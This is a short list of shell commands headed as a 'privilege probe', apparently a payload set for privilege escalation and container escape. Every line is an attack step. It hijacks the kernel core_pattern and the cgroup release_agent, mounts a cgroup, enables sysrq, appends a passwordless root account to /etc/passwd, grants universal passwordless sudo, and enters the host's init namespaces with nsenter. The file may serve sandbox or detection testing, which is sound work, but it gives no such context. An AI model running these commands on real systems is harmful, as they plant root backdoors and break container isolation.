# class: privilege probe; possible: low medium; style: release agent, core pattern, sysrq, passwd
id
echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern
echo /tmp/x > /sys/fs/cgroup/release_agent
mkdir -p /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg
echo 1 > /proc/sys/kernel/sysrq
echo 'r00t::0:0::/root:/bin/bash' >> /etc/passwd
echo 'ALL ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90
sudo -n true || su -c id root < /etc/hostname
nsenter -t 1 -m -u -i -n -p -- id
